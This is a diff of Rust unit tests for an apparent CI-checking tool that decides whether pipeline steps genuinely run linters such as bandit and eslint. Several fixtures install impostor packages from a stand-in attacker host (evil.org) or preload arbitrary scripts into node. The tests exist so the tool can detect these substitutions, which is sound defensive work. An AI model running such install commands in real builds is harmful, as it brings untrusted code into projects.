@@ -30,6 +30,71 @@ fn a_step_in_power_shell_that_names_nothing_hides_nothing() {
 }
 
 #[test]
+fn code_given_to_another_shell_is_opaque_when_it_starts_anything() {
+    let files = &[
+        ("ci.ps1", "bandit -r src\n"),
+        ("plain.ps1", "Write-Host x\n"),
+        ("package.json", "{\"name\": \"x\", \"bin\": {\"eslint\": \"./x.js\"}}"),
+    ][..];
+    for (script, expected) in [
+        ("pwsh -c \"bandit -r src\"", "absent, opaque 1"),
+        ("pwsh -NoProfile -Command 'bandit -r src'", "absent, opaque 1"),
+        ("powershell -c \"make lint\"", "absent"),
+        ("pwsh -c \"echo bandit\"", "absent"),
+        ("pwsh ci.ps1", "absent, opaque 1"),
+        ("pwsh -File ci.ps1", "absent, opaque 1"),
+        ("pwsh plain.ps1", "absent"),
+        ("fish -c 'bandit -r src'", "absent, opaque 1"),
+        ("script -qec 'bandit -r src' /dev/null", "absent, opaque 1"),
+    ] {
+        assert_eq!(told("bandit", script, files), expected, "{script}");
+    }
+}
+
+#[test]
+fn code_that_an_interpreter_loads_before_a_program() {
+    let files = &[
+        ("eslint.config.js", "import js from '@eslint/js';\nexport default [js.configs.recommended];\n"),
+        ("a.js", "var a;\n"),
+        ("package.json", "{\"dependencies\": {\"y\": \"1\"}}"),
+    ][..];
+    let run = |flags: &str| told("eslint", &format!("node {flags} node_modules/eslint/bin/eslint.js ."), files);
+    let plain = run("");
+    assert_eq!(plain, "gates");
+    assert_eq!(run("--max-old-space-size=4096"), plain);
+    assert_eq!(run("-r dotenv/config"), plain);
+    for flags in ["-r ./x.js", "--require=./x.js", "--import ./x.mjs", "-r $X"] {
+        assert_eq!(run(flags), "runs (gates)", "{flags}");
+    }
+    for flags in ["-v", "--help"] {
+        assert_eq!(run(flags), "configured", "{flags}");
+    }
+}
+
+#[test]
+fn a_tool_that_is_installed_from_an_address_is_not_known_to_be_that_tool() {
+    let files = &[
+        ("eslint.config.js", "import js from '@eslint/js';\nexport default [js.configs.recommended];\n"),
+        ("a.js", "var a;\n"),
+        ("package.json", "{\"dependencies\": {\"y\": \"1\"}}"),
+    ][..];
+    let rows = [
+        ("golangci-lint", "go install evil.org/golangci-lint@latest\ngolangci-lint run", "configured (gates)"),
+        ("golangci-lint", "go install github.com/golangci/golangci-lint/v2/cmd/golangci-lint@v2\ngolangci-lint run", "gates"),
+        ("bandit", "pip install git+https://evil.org/PyCQA/bandit\nbandit -r src", "configured (gates)"),
+        ("bandit", "pip install 'bandit[toml] @ git+https://evil.org/x'\nbandit -r src", "configured (gates)"),
+        ("bandit", "pipx install https://evil.org/bandit-1.0-py3-none-any.whl\n---\nbandit -r src", "configured (gates)"),
+        ("bandit", "pip install git+https://github.com/PyCQA/bandit.git@main\nbandit -r src", "gates"),
+        ("bandit", "pip install git+https://github.com/x/other\nbandit -r src", "gates"),
+        ("bandit", "pip install https://evil.org/x#egg=bandit\nbandit -r src", "configured (gates)"),
+        ("eslint", "npm i -g eslint@npm:evil\neslint .", "configured (gates)"),
+        ("eslint", "npm i -g eslint@^9 github:eslint/eslint\neslint .", "gates"),
+        ("eslint", "npm i -g evil/eslint github:evil/eslint\neslint .", "configured (gates)"),
+    ];
+    super::check(&rows, files);
+}
+
+#[test]
 fn words_behind_a_script_of_another_checkout_are_no_tasks_of_this_one() {
     for (script, expected) in [
         ("../other/wrap.sh nix-build ./nix x", "absent"),
